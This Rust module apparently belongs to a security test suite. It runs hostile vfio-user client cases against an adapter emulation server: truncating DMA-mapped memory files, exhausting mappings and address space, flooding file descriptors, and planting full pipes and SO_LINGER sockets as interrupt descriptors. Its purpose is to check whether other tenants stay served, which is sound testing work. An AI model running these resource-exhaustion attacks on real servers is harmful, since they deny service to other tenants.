//! A vfio-user client without a guest behind it: memory, descriptors and interrupts that no guest has.

use std::fs::File;
use std::io::Write;
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, RawFd};
use std::os::unix::fs::FileExt;
use std::os::unix::net::UnixStream;
use std::time::Duration;

use super::Row;
use super::stage::{ATTACKER, Attacker, BYSTANDER, Failure};
use crate::raw::{Raw, access, dma_map, dma_unmap, eventfd, memfd, set_irqs};

/// The cases.
pub const ROWS: &[Row] = &[
    Row::new("client: memory without seals, then shortened", |a| shortened(a, &memfd(SIZE))),
    Row::new("client: a file as memory, then shortened", |a| {
        let file = File::options()
            .read(true)
            .write(true)
            .create(true)
            .truncate(true)
            .open(a.dir().join("memory"))?;
        file.set_len(SIZE)?;
        shortened(a, &file)
    }),
    Row::new("client: 65495 files of one page", files),
    Row::new("client: sparse files of 2.5 TiB and less, until nothing fits", sparse),
    Row::new("client: 30000 windows of one file, unmapped and mapped again", windows),
    Row::new("client: a window of 1 GiB mapped and unmapped", remapped),
    Row::new("client: 16 descriptors with each message that takes none", strangers),
    Row::new("client: event descriptors replaced, over and over", replaced),
    Row::new("client: a full pipe as event descriptor", full_pipe),
    Row::new("client: a TCP socket with SO_LINGER as event descriptor", lingering),
    Row::new("client: descriptors behind some that won't close, until it is cut off", piled_up),
];

const PAGE: u64 = 4096;
/// Where the client's memory begins for the adapter, and how long it is.
pub const BASE: u64 = 0x1_0000_0000;
const SIZE: u64 = 0x10000;
/// The command queue in it: entries of 64 bytes.
pub const QUEUE: u64 = BASE + 0x1000;
/// vfio-user commands.
const DMA_MAP: u16 = 2;
const DMA_UNMAP: u16 = 3;
const SET_IRQS: u16 = 8;
const REGION_READ: u16 = 9;
/// Header flag: no reply is wanted.
pub const NO_REPLY: u32 = 1 << 4;
/// SET_IRQS: one event descriptor for each vector; all vectors are raised.
const CONNECT: u32 = 0x24;
const TRIGGER: u32 = 0x21;
/// MSI-X.
const MSIX: u32 = 2;

/// Memory and bus mastering on, and the command queue's address told.
pub fn enable(raw: &mut Raw) {
    raw.region_write(7, 4, &[6, 0]).ok();
    raw.region_write(0, 0x10, &((QUEUE >> 32) as u32).to_be_bytes()).ok();
    raw.region_write(0, 0x14, &(QUEUE as u32).to_be_bytes()).ok();
}

/// An entry of the command queue with ENABLE_HCA.
pub fn enable_hca() -> [u8; 64] {
    let mut entry = [0; 64];
    entry[0] = 7;
    entry[4..8].copy_from_slice(&16u32.to_be_bytes());
    entry[16..20].copy_from_slice(&(0x104u32 << 16).to_be_bytes());
    entry[56..60].copy_from_slice(&16u32.to_be_bytes());
    entry[63] = 1;
    entry
}

/// Rings the doorbell of all command slots.
///
/// # Errors
/// The server has closed the connection.
pub fn ring(raw: &mut Raw) -> std::io::Result<()> {
    let payload = [access(0, 0x18, 4), u32::MAX.to_be_bytes().to_vec()].concat();
    let message = raw.message(10, &payload, 0);
    raw.try_send_fds(&message, &[])?;
    raw.reply().map(drop)
}

/// The adapter has a command to fetch from memory whose file has no such page any more.
fn shortened(attacker: &Attacker, file: &File) -> Result<String, Failure> {
    let mut raw = attacker.raw();
    if raw.call_fds(DMA_MAP, &dma_map(BASE, SIZE, 0), &[file.as_raw_fd()]).error != 0 {
        return Ok("the memory was refused".to_owned());
    }
    enable(&mut raw);
    file.write_all_at(&enable_hca(), QUEUE - BASE)?;
    match file.set_len(0) {
        Ok(()) => {}
        Err(_) => return Ok("the memory can't be shortened".to_owned()),
    }
    for _ in attacker.rounds() {
        if ring(&mut raw).is_err() {
            return Ok("shortened, and disconnected".to_owned());
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Ok("shortened".to_owned())
}

/// Maps files of that many bytes each, one behind the other from `iova` on, until one is refused or there are `count`. Returns
/// how many were taken.
fn fill(raw: &mut Raw, iova: u64, count: u64, len: u64) -> u64 {
    let taken = |i: &u64| {
        let file = memfd(len);
        let message = raw.message(DMA_MAP, &dma_map(iova + i * len, len, 0), 0);
        raw.try_send_fds(&message, &[file.as_raw_fd()]).is_ok()
            && raw.reply().is_ok_and(|reply| reply.error == 0)
    };
    (0..count).take_while(taken).count() as u64
}

/// A third tenant brings memory while another has what it could get; gives what was done.
fn another(attacker: &Attacker, did: String) -> Result<String, Failure> {
    let mine = memfd(SIZE);
    let mut other = Raw::connect(&attacker.socket(BYSTANDER));
    other.negotiate();
    let reply = other.call_fds(DMA_MAP, &dma_map(BASE, SIZE, 0), &[mine.as_raw_fd()]);
    match reply.error {
        0 => Ok(did),
        errno => Err(format!("another tenant's memory was refused with errno {errno}; {did}").into()),
    }
}

/// More mappings than the system gives a process.
fn files(attacker: &Attacker) -> Result<String, Failure> {
    const FILES: u64 = 65495;
    let mut raw = attacker.raw();
    let taken = fill(&mut raw, BASE, FILES, PAGE);
    another(attacker, format!("{taken} of {FILES} taken"))
}

/// Large files, and then smaller ones in what they leave of the server's address space.
fn sparse(attacker: &Attacker) -> Result<String, Failure> {
    const LARGEST: u64 = 5 << 39;
    let mut raw = attacker.raw();
    let (mut iova, mut taken, mut len) = (BASE, 0, LARGEST);
    while len > SIZE {
        let now = fill(&mut raw, iova, 64, len);
        (iova, taken, len) = (iova + now * len, taken + now, (len / 2) & !(PAGE - 1));
    }
    another(attacker, format!("{taken} files, {} GiB", iova >> 30))
}

fn windows(attacker: &Attacker) -> Result<String, Failure> {
    const WINDOWS: u64 = 30_000;
    let mut raw = attacker.raw();
    let file = memfd(WINDOWS * PAGE);
    let mut rounds = 0;
    for _ in attacker.rounds() {
        for i in (0..WINDOWS).rev() {
            // Every other page, so that no two are neighbours.
            let map = dma_map(BASE + 2 * i * PAGE, PAGE, i * PAGE);
            let message = raw.message(DMA_MAP, &map, NO_REPLY);
            raw.try_send_fds(&message, &[file.as_raw_fd()])?;
        }
        raw.call(DMA_UNMAP, &dma_unmap(2, 0, 0)).ok();
        rounds += 1;
    }
    Ok(format!("{rounds} times {WINDOWS} windows"))
}

fn remapped(attacker: &Attacker) -> Result<String, Failure> {
    const LEN: u64 = 1 << 30;
    let mut raw = attacker.raw();
    let mut rounds = 0;
    for _ in attacker.rounds() {
        let file = memfd(LEN);
        raw.call_fds(DMA_MAP, &dma_map(BASE, LEN, 0), &[file.as_raw_fd()]).ok();
        raw.call(DMA_UNMAP, &dma_unmap(0, BASE, LEN)).ok();
        rounds += 1;
    }
    Ok(format!("{rounds} times"))
}

fn strangers(attacker: &Attacker) -> Result<String, Failure> {
    let mut raw = attacker.raw();
    let file = memfd(PAGE);
    let fds: [RawFd; 16] = [file.as_raw_fd(); 16];
    let (mut sent, mut ended) = (0, 0);
    for _ in attacker.rounds() {
        let all = (0..100).try_for_each(|_| {
            let message = raw.message(REGION_READ, &access(7, 0, 4), NO_REPLY);
            raw.try_send_fds(&message, &fds).map(|()| sent += 16)
        });
        // With too many that wait to be closed the connection ends, and the adapter has no client until they are gone.
        if all.is_err() || raw.is_closed() {
            raw = Raw::connect(&attacker.socket(ATTACKER));
            ended += 1;
        }
    }
    Ok(format!("{sent} descriptors, {ended} connections ended"))
}

fn replaced(attacker: &Attacker) -> Result<String, Failure> {
    let mut raw = attacker.raw();
    let mut sent = 0;
    for _ in attacker.rounds() {
        let events: Vec<_> = (0..16).map(|_| eventfd()).collect();
        let fds: Vec<RawFd> =
            events.iter().map(|event| std::os::fd::AsFd::as_fd(event).as_raw_fd()).collect();
        for start in [0, 16, 32, 48] {
            raw.call_fds(SET_IRQS, &set_irqs(CONNECT, MSIX, start, 16, &[]), &fds).ok();
            sent += 16;
        }
    }
    Ok(format!("{sent} descriptors"))
}

/// A write to it would wait for a reader that never comes.
fn full_pipe(attacker: &Attacker) -> Result<String, Failure> {
    let mut raw = attacker.raw();
    let (_reader, writer) = nix::unistd::pipe()?;
    let mut writer = File::from(writer);
    let fill = writer.try_clone()?;
    nix::fcntl::fcntl(&fill, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK))?;
    while writer.write(&[0; 1]).is_ok() {}
    nix::fcntl::fcntl(&fill, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::empty()))?;
    raw.call_fds(SET_IRQS, &set_irqs(CONNECT, MSIX, 0, 1, &[]), &[writer.as_raw_fd()]);
    let mut raised = 0;
    for _ in attacker.rounds() {
        raw.call(SET_IRQS, &set_irqs(TRIGGER, MSIX, 0, 1, &[]));
        raised += 1;
    }
    Ok(format!("{raised} interrupts raised"))
}

/// A socket that lingers when it is closed, as its peer, kept with the others, takes nothing more.
fn full(listener: &TcpListener, peers: &mut Vec<(TcpStream, SocketAddr)>) -> Result<TcpStream, Failure> {
    let mut stream = TcpStream::connect(listener.local_addr()?)?;
    peers.push(listener.accept()?);
    linger(&stream)?;
    stream.set_nonblocking(true)?;
    while stream.write(&[0; 1 << 16]).is_ok() {}
    stream.set_nonblocking(false)?;
    Ok(stream)
}

/// Closing such a socket waits until its data is read, or for two minutes.
fn lingering(attacker: &Attacker) -> Result<String, Failure> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let mut raw = attacker.raw();
    let mut peers = Vec::new();
    let mut sent = 0;
    for _ in attacker.rounds() {
        let stream = full(&listener, &mut peers)?;
        let message = raw.message(SET_IRQS, &set_irqs(CONNECT, MSIX, 0, 1, &[]), 0);
        let taken = raw.try_send_fds(&message, &[stream.as_raw_fd()]).is_ok();
        // The last copy to be closed is the one that lingers. That is the server's, unless it was faster: then it is this one,
        // and that must not hold the attack.
        std::thread::spawn(move || drop(stream));
        if !taken || raw.reply().is_err() {
            return Err("the server does not answer any more".into());
        }
        sent += 1;
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(format!("{sent} sockets"))
}

/// Sockets that linger hold whoever closes them; thousands of other descriptors come behind.
fn piled_up(attacker: &Attacker) -> Result<String, Failure> {
    const HOLDING: u16 = 8;
    /// Of one message.
    const EACH: usize = 16;
    const MESSAGES: usize = 200;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let mut raw = attacker.raw();
    let rounds = attacker.rounds();
    let mut peers = Vec::new();
    for vector in 0..HOLDING {
        let stream = full(&listener, &mut peers)?;
        let message = raw.message(SET_IRQS, &set_irqs(CONNECT, MSIX, vector.into(), 1, &[]), 0);
        raw.try_send_fds(&message, &[stream.as_raw_fd()])?;
        // As above.
        std::thread::spawn(move || drop(stream));
        raw.reply()?;
    }
    let (near, _far) = UnixStream::pair()?;
    let message = raw.message(SET_IRQS, &set_irqs(CONNECT, MSIX, 0, 16, &[]), 0);
    let taken = (0..MESSAGES)
        .take_while(|_| raw.try_send_fds(&message, &[near.as_raw_fd(); EACH]).is_ok() && raw.reply().is_ok());
    let taken = taken.count();
    rounds.for_each(|_| std::thread::sleep(Duration::from_millis(10)));
    match taken {
        MESSAGES => Err(format!("{} descriptors were taken", EACH * taken).into()),
        _ => Ok(format!("cut off after {} descriptors", EACH * taken)),
    }
}

/// SO_LINGER with the longest time that does not look like for ever.
fn linger(stream: &TcpStream) -> Result<(), Failure> {
    let linger = nix::libc::linger { l_onoff: 1, l_linger: 120 };
    Ok(nix::sys::socket::setsockopt(stream, nix::sys::socket::sockopt::Linger, &linger)?)
}
